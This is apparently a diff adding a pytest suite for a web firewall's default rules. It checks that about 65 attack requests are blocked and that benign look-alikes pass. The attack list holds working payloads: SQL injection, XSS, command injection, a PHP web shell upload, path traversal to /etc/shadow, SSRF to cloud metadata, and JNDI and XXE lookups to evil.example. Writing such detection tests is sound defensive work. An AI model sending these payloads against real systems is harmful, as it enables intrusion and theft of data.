@@ -1,0 +1,187 @@
+"""rules/default.yaml: attacks of every class must block (with their tag); hard negatives must not.
+
+The payloads are written for this test (not copied from the corpus), in the contexts real requests carry
+them: query and form values, JSON fields, headers, cookies, paths, uploads and XML bodies.
+"""
+
+import json
+from urllib.parse import quote, quote_plus
+
+import pytest
+
+from engine.features import Features
+from engine.verdict import Source
+from rules.embed import BROWSER_UA
+from rules.engine import RuleEngine
+
+UA = ("User-Agent", BROWSER_UA)
+
+
+@pytest.fixture(scope="module")
+def engine():
+    return RuleEngine.load()
+
+
+def q(value: str, name: str = "q", path: str = "/search") -> Features:
+    return Features.build("GET", path, query=f"{name}={quote(value, safe='')}", headers=[UA])
+
+
+def form(value: str, name: str = "comment") -> Features:
+    body = f"title=hello&{name}={quote_plus(value)}"
+    return Features.build("POST", "/comments", body=body, headers=[UA, ("Content-Type", "application/x-www-form-urlencoded")])
+
+
+def js(obj) -> Features:
+    return Features.build("POST", "/api/items", body=json.dumps(obj), headers=[UA, ("Content-Type", "application/json")])
+
+
+def hdr(name: str, value: str, path: str = "/") -> Features:
+    headers = [UA] if name.lower() != "user-agent" else []
+    return Features.build("GET", path, headers=headers + [(name, value)])
+
+
+def raw(method: str, path: str, headers=(), body: str = "") -> Features:
+    return Features.build(method, path, headers=[UA, *headers], body=body)
+
+
+def upload(content: str, filename: str = "avatar.png") -> Features:
+    body = (
+        f'--X\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
+        f"Content-Type: image/png\r\n\r\n{content}\r\n--X--\r\n"
+    )
+    return Features.build("POST", "/upload", body=body, headers=[UA, ("Content-Type", "multipart/form-data; boundary=X")])
+
+
+XML = "application/xml"
+
+ATTACKS = [
+    ("sqli", q("7' OR '2'='2' -- ")),
+    ("sqli", q("-3 UNION ALL SELECT login, pass_hash FROM accounts")),
+    ("sqli", q("10; DROP TABLE orders--", name="id")),
+    ("sqli", q("x' AND SLEEP(7)#")),
+    ("sqli", hdr("Cookie", "uid=5' or 3=3#")),
+    ("sqli", js({"filter": "name') or ('q'='q"})),
+    ("xss", q("<script>alert(document.domain)</script>")),
+    ("xss", q('"><img src=x onerror=alert(7)>', name="name")),
+    ("xss", form("<svg/onload=confirm`1`>")),
+    ("xss", q("javascript:alert(document.cookie)", name="next")),
+    ("rce", q("10.0.0.9; cat /etc/hostname", name="host")),
+    ("rce", q("a|whoami", name="file")),
+    ("rce", hdr("User-Agent", "() { :; }; /bin/bash -c 'ping -c 2 evil.example'")),
+    ("rce", q("`sleep 9`")),
+    ("rce", upload("<?php echo shell_exec($_REQUEST['x']); ?>", "img.php")),
+    ("rce", q("__import__('os').popen('id').read()")),
+    ("rce", q("${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}")),
+    ("rce", q("%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}")),
+    ("rce", js({"code": "require('child_process').execSync('cat /etc/hostname')"})),
+    ("traversal", q("../../../../etc/passwd", name="file")),
+    ("traversal", raw("GET", "/static/..%2f..%2f..%2fetc/shadow")),
+    ("traversal", q("..\\..\\..\\windows\\win.ini", name="template")),
+    ("traversal", q("....//....//....//etc/group", name="page")),
+    ("ssrf", q("http://169.254.169.254/latest/meta-data/iam/", name="url")),
+    ("ssrf", q("http://127.0.0.1:9200/_cat/indices", name="webhook")),
+    ("ssrf", q("gopher://localhost:6379/_FLUSHALL", name="url")),
+    ("ssrf", js({"avatar_url": "http://[::1]:8080/admin"})),
+    ("xxe", raw("POST", "/api/import", [("Content-Type", XML)],
+                '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')),
+    ("xxe", raw("POST", "/soap", [("Content-Type", XML)],
+                '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d/>')),
+    ("ssti", q("{{7*7}}", name="name")),
+    ("ssti", q("{{ cycler.__init__.__globals__.os.popen('id').read() }}", name="name")),
+    ("ssti", form("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")),
+    ("nosqli", Features.build("GET", "/login", query="user=admin&pass%5B%24ne%5D=x", headers=[UA])),
+    ("nosqli", js({"user": "admin", "pass": {"$gt": ""}})),
+    ("nosqli", q("'; return true; var z='", name="user")),
+    ("ldapi", q("*)(uid=*))(|(uid=*", name="user")),
+    ("xpathi", q("' or count(/*)=1 or 'a", name="user")),
+    ("jndi", hdr("User-Agent", "${jndi:ldap://evil.example:1389/a}")),
+    ("jndi", hdr("X-Api-Version", "${${lower:j}${upper:n}di:${lower:r}mi://evil.example/x}")),
+    ("jndi", q("${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/q}")),
+    ("crlf", raw("GET", "/%0d%0aSet-Cookie:%20admin=1")),
+    ("crlf", q("en\r\nLocation: https://evil.example/", name="lang")),
+    ("scanner", hdr("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")),
+    ("scanner", raw("GET", "/.git/config")),
+    ("scanner", raw("GET", "/.env")),
+    ("scanner", raw("GET", "/phpmyadmin/index.php")),
+    ("rfi", q("http://evil.example/c.txt?", name="include")),
+    ("rfi", q("\\\\evil.example\\share\\x.php", name="page")),
+    ("deserialization", hdr("Cookie", 'prefs=O:8:"UserPref":1:{s:5:"theme";s:4:"dark";}')),
+    ("deserialization", js({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://evil.example/a"})),
+    ("deserialization", raw("POST", "/config", [("Content-Type", "application/yaml")],
+                            "settings: !!python/object/apply:os.system ['id']")),
+    ("prototype_pollution", Features.build("GET", "/", query="__proto__%5BisAdmin%5D=1", headers=[UA])),
+    ("prototype_pollution", js({"__proto__": {"isAdmin": True}})),
+    ("prototype_pollution", js({"constructor": {"prototype": {"polluted": 1}}})),
+    ("graphql", js({"query": "query { __schema { types { name fields { name } } } }"})),
+    ("graphql", js({"query": "{" + " ".join(f"a{i}: login(user: \"u\", pass: \"p{i}\") {{ token }}" for i in range(40)) + "}"})),
+    ("protocol", raw("POST", "/", [("Transfer-Encoding", "chunked"), ("Content-Length", "4")], "0\r\n\r\n")),
+    ("protocol", raw("POST", "/", [("Transfer-Encoding", " chunked\x0b")], "0\r\n\r\n")),
+    ("protocol", raw("GET", "/cgi/app", [("Proxy", "http://evil.example:3128")])),
+    ("protocol", raw("TRACE", "/")),
+    ("mail_injection", form("me@example.com\r\nBcc: everyone@example.org", name="email")),
+    ("session_fixation", q('<meta http-equiv="Set-Cookie" content="SID=abc123; path=/">')),
+    ("open_redirect", q("//evil.example/login", name="next")),
+    ("open_redirect", q("https:evil.example", name="return")),
+    ("format_string", Features.build("GET", "/search", query="q=%25x%25x%25x%25x%25n", headers=[UA])),
+    ("ssi", q('<!--#exec cmd="cat /etc/hostname" -->')),
+]
+
+
+@pytest.mark.parametrize("tag,features", ATTACKS, ids=[f"{t}-{i}" for i, (t, _) in enumerate(ATTACKS)])
+def test_attack_blocks(engine, tag, features):
+    verdict = engine.evaluate(features)
+    assert verdict.label == "block", engine.explain(features)
+    assert tag in verdict.features
+    assert verdict.source is Source.RULES and verdict.confidence >= 0.75
+
+
+def test_every_attack_tag_is_covered():
+    from engine.labels import ATTACK_FEATURES
+
+    assert {t for t, _ in ATTACKS} == set(ATTACK_FEATURES)
+
+
+DOC_SQL = "To combine rows use\n\nSELECT name FROM customers\nUNION\nSELECT name FROM suppliers\nORDER BY name;"
+DOC_SHELL = "Install with:\n\n    curl -fsSL https://get.example.com/install.sh | sh\n\nThen clean up: rm -rf ./build && npm ci"
+DOC_PHP = "A minimal page:\n\n<?php\n$name = htmlspecialchars($_POST['name'] ?? '');\necho \"Hello, $name\";\n?>\n"
+DOC_HTML = (
+    "Load the widget after the page body. Put this tag just before the closing body tag so it does not "
+    'block rendering:\n\n<script src="https://cdn.example.com/widget/2.1/widget.min.js" defer></script>\n\n'
+    "The widget reads its options from data attributes on the container."
+)
+DOC_HELM = 'image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"'
+
+BENIGN = [
+    ("name", q("O'Brien", name="last_name")),
+    ("apostrophes", form("Let's meet at 5 o'clock; bring the 'A' team and Mary's notes.")),
+    ("sql-question", q("how to drop table if exists in postgres")),
+    ("sql-docs", form(DOC_SQL)),
+    ("sql-docs-json", js({"title": "union", "content": DOC_SQL})),
+    ("shell-docs", js({"content": DOC_SHELL})),
+    ("php-docs", form(DOC_PHP)),
+    ("html-docs", form(DOC_HTML)),
+    ("helm", js({"content": DOC_HELM})),
+    ("vue", form("<p>{{ message }}</p> and {{ user.name | capitalize }}")),
+    ("markdown-link", form("See [the guide](../guide/install.md) and [FAQ](../../faq.md#proxy).")),
+    ("email", q("john.doe+news@example.com", name="email")),
+    ("percent", q("50% off, 100% cotton")),
+    ("oauth", Features.build("GET", "/oauth/authorize", headers=[UA],
+                             query="response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=xyz")),
+    ("api", Features.build("GET", "/api/v1/users/123/orders", query="page=2&sort=-created_at&fields=id,total", headers=[UA])),
+    ("json-api", js({"user": {"id": 42, "email": "a@example.com", "tags": ["x", "y"], "address": {"city": "Lyon"}}})),
+    ("graphql", js({"query": "query Order($id: ID!) { order(id: $id) { id lines { product { name } quantity } } }",
+                    "variables": {"id": "T3JkZXI6MQ=="}})),
+    ("jwt-cookie", hdr("Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl; theme=dark")),
+    ("googlebot", hdr("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")),
+    ("static", raw("GET", "/static/js/app.3f2a1c.js")),
+    ("windows-path", form("Open C:\\Program Files\\Example\\settings.ini and set Port=8080")),
+    ("search-words", q("select the best union jobs near me")),
+    ("chunked-upload", raw("POST", "/upload", [("Transfer-Encoding", "chunked")], "5\r\nhello\r\n0\r\n\r\n")),
+    ("multipart", upload("\x89PNG\r\n\x1a\n" + "\x00" * 64, "photo.png")),
+]
+
+
+@pytest.mark.parametrize("name,features", BENIGN, ids=[n for n, _ in BENIGN])
+def test_hard_negative_passes(engine, name, features):
+    verdict = engine.evaluate(features)
+    assert verdict.label != "block", engine.explain(features)
